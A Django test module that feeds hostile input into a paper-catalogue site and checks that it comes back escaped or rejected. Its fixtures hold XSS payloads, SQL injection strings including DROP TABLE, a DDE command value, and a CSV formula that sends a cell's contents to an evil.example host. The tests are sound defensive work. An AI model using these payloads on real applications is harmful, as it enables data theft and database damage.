"""Hostile input: markup in every user-supplied field comes back escaped everywhere; weird filters never 500.

Stored payloads go in the way a researcher would put them in (the submission API, BibTeX included), are
reviewed by a curator, and are then looked for on every page, in the JSON API, and in the CSV and BibTeX
exports. Hostile query values (SQL-ish strings, huge numbers, NaN, NUL bytes, long unicode) are sent to every
filter of every list page and API list: the answer is 200 or 400, never a 5xx.
"""

import csv
import io
import json
import re
import uuid

import django_filters
from django.contrib.auth.models import User
from django.core.cache import cache
from django.test import Client, TestCase
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse

from accounts.roles import make_curator
from coverage import snapshots
from papers import review, submissions
from papers.bibtex import parse_bibtex
from papers.forms import TARGET_CHOICES, Vocabulary
from papers.models import FaultMapping, Paper, Submission
from papers.submission_forms import SubmissionForms
from papers.tests.factories import make_mapping, make_paper
from taxonomy.models import Fault
from taxonomy.tests.factories import make_fault, make_method

SCRIPT = '<script>alert("kb-xss")</script>'
IMG = "<img src=x onerror=alert(1)>"
PAYLOAD = f"{SCRIPT}{IMG}"
RAW_MARKERS = ("<script>alert(", "<img src=x onerror")
ESCAPED_MARKER = "&lt;script&gt;alert(&quot;kb-xss&quot;)&lt;/script&gt;"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def mapping_json(fault: str, text: str) -> dict:
    return {
        "fault": fault,
        "strength": "explicit",
        "methods": ["M-T-GEN"],
        "phases": ["detection"],
        "targets": [TARGET_CHOICES[0][0]],
        "rationale": f"Evidence {text}",
        "evidence_kind": "abstract",
        "evidence_note": f"Note {text}",
        "quote": f"Quote {text}",
        "quote_locator": f"Sec. {text}",
    }


class InjectionWorld(TestCase):
    """Faults, one clean paper, and hostile papers, submissions, mappings, reasons and a snapshot."""

    @classmethod
    def setUpTestData(cls):
        root = make_fault("T", name="Root", kind=Fault.Kind.CATEGORY, slug="root", position=1)
        memory = make_fault("T.1", name="Memory", kind=Fault.Kind.CATEGORY, parent=root, slug="memory", position=2)
        cls.leak = make_fault("T.1-1", name="Memory leak", parent=memory, slug="memory-leak", position=3)
        cls.other_leaf = make_fault("T-1", name="Uncovered", parent=root, slug="uncovered", position=4)
        make_method("M-T-GEN", name="Fuzzing", parent=make_method("M-T", name="Testing"))
        make_mapping(make_paper("clean", title="A clean paper"), cls.other_leaf)
        # A curated paper whose free-text fields (edited in the admin) carry the payload.
        curated = make_paper(
            "curated-hostile",
            title=f"Curated {PAYLOAD}",
            venue=f"Venue {PAYLOAD}",
            authors=[f"Eve {PAYLOAD}"],
            evidence_note=f"Evidence {PAYLOAD}",
            quote=f"Quote {PAYLOAD}",
            quote_locator=f"Sec. {PAYLOAD}",
        )
        make_mapping(curated, cls.other_leaf, rationale=f"Rationale {PAYLOAD}", quote=f"Q {PAYLOAD}")

        cls.researcher = User.objects.create_user("researcher", "r@example.org", "a-long-password-1")
        cls.curator = User.objects.create_user("curator", "c@example.org", "a-long-password-2")
        make_curator(cls.curator)

        def submit(body):
            forms = SubmissionForms.from_json(body, Vocabulary.load())
            return submissions.submit(cls.researcher, forms)

        approved = submit(
            {
                "paper": {
                    "title": f"Submitted {PAYLOAD}",
                    "authors": [f"Mallory {PAYLOAD}"],
                    "year": 2024,
                    "venue": f"Conf {PAYLOAD}",
                    "url": "https://example.org/paper",
                },
                "comment": f"Comment {PAYLOAD}",
                "mappings": [mapping_json("T.1-1", PAYLOAD)],
            }
        )
        review.approve(approved, cls.curator, f"Approved {PAYLOAD}")
        cls.approved_paper = approved.paper
        sent_back = submit(
            {
                "bibtex": '@article{evil, title={BibTeX <script>alert("kb-xss")</script>}, author={Eve '
                "<img src=x onerror=alert(1)>}, year={2023}, url={https://example.org/bib}}",
                "comment": f"BibTeX {PAYLOAD}",
                "mappings": [mapping_json("T-1", PAYLOAD)],
            }
        )
        review.request_changes(sent_back, cls.curator, f"Reason {PAYLOAD}")
        cls.sent_back = sent_back
        formula = submit(
            {
                "paper": {
                    "title": FORMULA,
                    "authors": ["@SUM(1+1)*cmd|' /C calc'!A0"],
                    "year": 2022,
                    "venue": "+1-1",
                    "url": "https://example.org/formula",
                },
                "mappings": [mapping_json("T-1", "x") | {"rationale": "=1+1", "quote_locator": "-2+3"}],
            }
        )
        review.approve(formula, cls.curator)
        cls.formula_paper = formula.paper
        snapshots.freeze("hostile", description=f"Snapshot {PAYLOAD}", created_by="curator")

    def setUp(self):
        cache.clear()

    def client_as(self, user=None) -> Client:
        client = Client(raise_request_exception=False)
        if user is not None:
            client.force_login(user)
        return client


#
# Stored payloads come back escaped
#


class EscapingTests(InjectionWorld):
    def assert_escaped(self, response, *, shown: bool):
        assert response.status_code == 200, response.status_code
        text = response.content.decode()
        for marker in RAW_MARKERS:
            assert marker not in text, f"unescaped {marker!r} in {response.wsgi_request.path}"
        if shown:
            assert ESCAPED_MARKER in text, f"payload not shown (escaped) on {response.wsgi_request.path}"

    def test_public_pages(self):
        client = self.client_as()
        pages = {
            reverse("home"): False,
            reverse("search") + "?q=Submitted": True,
            reverse("search") + "?q=" + SCRIPT: True,  # the query itself is echoed back
            reverse("coverage:fault-list") + "?q=" + SCRIPT: False,
            reverse("coverage:fault-detail", args=["T.1-1"]): True,
            reverse("coverage:fault-detail", args=["T-1"]): True,
            reverse("coverage:dashboard"): False,
            reverse("coverage:snapshot-list"): True,
            reverse("coverage:snapshot-detail", args=["hostile"]): True,
            reverse("papers:paper-list"): True,
            reverse("papers:paper-list") + "?q=" + SCRIPT: False,
            reverse("papers:paper-detail", args=[self.approved_paper.key]): True,
            reverse("papers:paper-detail", args=["curated-hostile"]): True,
        }
        for url, shown in pages.items():
            with self.subTest(url=url):
                self.assert_escaped(client.get(url), shown=shown)

    def test_submitter_and_curator_pages(self):
        researcher, curator = self.client_as(self.researcher), self.client_as(self.curator)
        for client, url in [
            (researcher, reverse("papers:submission-list")),
            (researcher, reverse("papers:submission-detail", args=[self.sent_back.uid])),
            (researcher, reverse("papers:submission-edit", args=[self.sent_back.uid])),
            (curator, reverse("papers:review-queue") + "?status=changes_requested"),
            (curator, reverse("papers:review-detail", args=[self.sent_back.uid])),
            (curator, reverse("accounts:profile")),
        ]:
            with self.subTest(url=url):
                self.assert_escaped(client.get(url), shown="profile" not in url and "queue" not in url)

    def test_admin_pages(self):
        admin = User.objects.create_superuser("admin", "a@example.org", "a-long-password-3")
        client = self.client_as(admin)
        mapping = FaultMapping.objects.get(paper=self.approved_paper)
        for url in [
            reverse("admin:papers_paper_changelist"),
            reverse("admin:papers_paper_change", args=[self.approved_paper.pk]),
            reverse("admin:papers_faultmapping_change", args=[mapping.pk]),
            reverse("admin:papers_submission_changelist"),
            reverse("admin:papers_paper_history", args=[self.approved_paper.pk]),
        ]:
            with self.subTest(url=url):
                self.assert_escaped(client.get(url), shown=True)

    def test_json_api_returns_the_text_as_data_never_as_html(self):
        client = self.client_as(self.researcher)
        for url in [
            reverse("api:paper-list"),
            reverse("api:paper-detail", args=[self.approved_paper.key]),
            reverse("api:mapping-list"),
            reverse("api:snapshot-detail", args=["hostile"]),
            reverse("api:submission-detail", args=[self.sent_back.uid]),
        ]:
            with self.subTest(url=url):
                response = client.get(url, HTTP_ACCEPT="application/json")
                assert response.status_code == 200
                assert response["Content-Type"] == "application/json"
                assert response["X-Content-Type-Options"] == "nosniff"
                assert json.dumps(PAYLOAD)[1:-1] in response.content.decode()  # verbatim, as JSON string data
        # The browsable API escapes it like any page.
        browsable = client.get(reverse("api:paper-detail", args=[self.approved_paper.key]), HTTP_ACCEPT="text/html")
        self.assert_escaped(browsable, shown=False)
        assert "Submitted &lt;script&gt;alert(" in browsable.content.decode()

    def test_csv_exports_guard_against_formulas(self):
        client = self.client_as()
        for url in [
            reverse("api:paper-list") + "?format=csv",
            reverse("api:mapping-list") + "?format=csv",
            reverse("api:paper-detail", args=[self.formula_paper.key]) + "?format=csv",
        ]:
            with self.subTest(url=url):
                response = client.get(url)
                assert response.status_code == 200
                assert response["Content-Type"].startswith("text/csv")
                rows = list(csv.reader(io.StringIO(response.content.decode())))
                cells = [cell for row in rows for cell in row]
                assert "'" + FORMULA in cells or "'=1+1" in cells  # the hostile values are there, defused
                dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
                assert dangerous == []

    def test_bibtex_export_cannot_be_broken_out_of(self):
        Paper.objects.filter(pk=self.approved_paper.pk).update(
            url="https://example.org/a}, note = {INJECTED", doi="10.1234/x}, note = {INJECTED"
        )
        response = self.client_as().get(
            reverse("api:paper-detail", args=[self.approved_paper.key]), {"format": "bibtex"}
        )
        assert response.status_code == 200
        entry = parse_bibtex(response.content.decode())
        assert entry["title"] == f"Submitted {PAYLOAD}"
        assert "INJECTED" not in str(entry.get("note", ""))
        text = response.content.decode()
        assert not re.search(r"^\s*note\s*=", text, re.MULTILINE)
        # And on the paper page, the BibTeX block is escaped HTML like the rest.
        page = self.client_as().get(reverse("papers:paper-detail", args=[self.approved_paper.key]))
        self.assert_escaped(page, shown=True)


#
# Hostile filter values
#

HOSTILE_VALUES = [
    "' OR '1'='1' --",
    "1; DROP TABLE papers_paper; --",
    "9" * 40,
    "-" + "9" * 40,
    "1e400",
    "NaN",
    "abc\x00def",
    "\u202e💥" + "é" * 5000,
    "2026-13-45T99:99:99Z",
    "%_\\",
]
COMMON_PARAMS = ["q", "page", "ordering", "format", "as_of", "snapshot"]
SKIP = {
    "logout",
    "password_change_done",
    "password_reset_done",
    "password_reset_complete",
    "healthz",
    # Not lists: the schema and its viewers (schemathesis covers the API against the schema in .ci/api-fuzz).
    "api:schema",
    "api:docs",
    "api:redoc",
    # Not a list: a redirect to the newest release (404 while there is none; tested in test_releases.py).
    "coverage:release-latest",
}


def list_url_names() -> list[str]:
    """Every route without URL parameters that answers GET, except auth flow pages (pages and API)."""
    names = []

    def walk(patterns, namespace=None):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = pattern.namespace or None
                walk(pattern.url_patterns, f"{namespace}:{inner}" if namespace and inner else inner or namespace)
            elif isinstance(pattern, URLPattern) and pattern.name:
                name = f"{namespace}:{pattern.name}" if namespace else pattern.name
                if name.startswith("admin:") or name in SKIP or name in names:
                    continue
                try:
                    reverse(name)
                except Exception:  # needs arguments
                    continue
                names.append(name)

    walk(get_resolver().url_patterns)
    return names


def filter_params(filterset_class) -> list[str]:
    params = []
    for name, f in filterset_class.base_filters.items():
        if isinstance(f, django_filters.RangeFilter | django_filters.NumericRangeFilter):
            params += [f"{name}_min", f"{name}_max"]
        elif isinstance(f, django_filters.DateFromToRangeFilter | django_filters.IsoDateTimeFromToRangeFilter):
            params += [f"{name}_after", f"{name}_before"]
        else:
            params.append(name)
    return params


class HostileFilterTests(InjectionWorld):
    def params_for(self, url: str, response) -> list[str]:
        params = set(COMMON_PARAMS)
        view = resolve(url).func
        filterset_class = getattr(getattr(view, "cls", None), "filterset_class", None)
        if filterset_class is not None:
            params.update(filter_params(filterset_class))
        context = getattr(response, "context", None)
        if context is not None:
            for key in ("filter", "filterset", "form"):
                found = context.get(key) if hasattr(context, "get") else None
                if isinstance(found, django_filters.FilterSet):
                    params.update(filter_params(type(found)))
                elif found is not None and hasattr(found, "fields"):
                    params.update(found.fields)
        return sorted(params)

    def test_every_filter_of_every_list_takes_hostile_values_without_a_server_error(self):
        """A fixed set of cases, bounded by their number: every parameter of every list gets a hostile value, and
        every list gets every hostile value (the values taken in turn, so each parameter name meets several)."""
        client = self.client_as(self.curator)
        names = list_url_names()
        assert {"papers:paper-list", "coverage:fault-list", "api:paper-list", "api:coverage-faults"} <= set(names)
        server_errors, params_of, covered, turn = [], {}, {}, 0
        for name in names:
            url = reverse(name)
            cache.clear()  # the API throttle counts every request; each list starts afresh
            plain = client.get(url)
            if plain.status_code in (302, 405):  # a redirect (login page when signed in) or POST only
                continue
            assert plain.status_code in (200, 400), f"{name}: {plain.status_code}"  # 400: a diff needs its inputs
            params = params_of[name] = self.params_for(url, plain)
            for index in range(max(len(params), len(HOSTILE_VALUES))):
                param, value = params[index % len(params)], HOSTILE_VALUES[turn % len(HOSTILE_VALUES)]
                turn += 1
                response = client.get(url, {param: value})
                covered.setdefault(name, set()).add((param, value))
                allowed = {200, 400, 404} if param in ("page", "snapshot", "format") else {200, 400}
                if response.status_code not in allowed:
                    server_errors.append((name, param, value[:30], response.status_code))
        assert server_errors == [], server_errors
        for name, cases in covered.items():
            assert {param for param, _ in cases} == set(params_of[name]), name
            assert {value for _, value in cases} == set(HOSTILE_VALUES), name
        assert {"papers:paper-list", "api:paper-list", "api:submission-list"} <= set(covered)

    def test_repeated_and_odd_parameters(self):
        client = self.client_as()
        for url in [reverse("papers:paper-list"), reverse("api:paper-list"), reverse("coverage:fault-list")]:
            with self.subTest(url=url):
                assert client.get(url + "?q=a&q=b&year_min=1&year_min=2&ordering=title&ordering=-x").status_code in (
                    200,
                    400,
                )
                assert client.get(url + "?" + "&".join(f"p{n}=1" for n in range(900))).status_code == 200
                assert client.get(url + "?q=%ZZ%00%C0%AF").status_code in (200, 400)

    def test_hostile_path_values_are_not_found(self):
        client = self.client_as(self.curator)
        for name, value in [
            ("coverage:fault-detail", "' OR 1=1 --"),
            ("coverage:fault-detail", "x" * 3000),
            ("papers:paper-detail", "a" * 3000),
            ("coverage:snapshot-detail", "no-such-snapshot"),
            ("challenges:challenge-detail", "no-such-challenge"),
            ("challenges:interview-detail", 10**30),
            ("challenges:artifact-detail", 10**30),
            ("api:fault-detail", "x" * 3000),
            ("api:paper-detail", "' OR 1=1 --"),
            ("api:github-artifact-detail", 10**30),
            ("api:interview-detail", "abc"),
            ("api:submission-detail", "not-a-uuid"),
            ("api:submission-detail", uuid.uuid4()),
            ("api:mapping-detail", "not-a-uuid"),
        ]:
            with self.subTest(name=name, value=str(value)[:20]):
                assert client.get(reverse(name, args=[value])).status_code == 404

    def test_nul_bytes_in_the_address_are_400(self):
        client = self.client_as(self.curator)
        page = client.get(reverse("coverage:fault-detail", args=["T\x00"]))
        assert page.status_code == 400
        assert b"The address contains a NUL character (%00)." in page.content
        api = client.get(reverse("api:paper-list"), {"q": "a\x00b"})
        assert api.status_code == 400
        assert api.json() == {"detail": "The address contains a NUL character (%00).", "code": "bad_request"}

    def test_submissions_stay_unchanged_by_hostile_lookups(self):
        before = list(Submission.objects.values_list("uid", "status"))
        client = self.client_as(self.researcher)
        for value in HOSTILE_VALUES:
            assert client.get(reverse("api:submission-lookup"), {"q": value}).status_code in (200, 400)
            assert client.get(reverse("papers:submission-lookup"), {"q": value}).status_code in (200, 400)
        assert list(Submission.objects.values_list("uid", "status")) == before
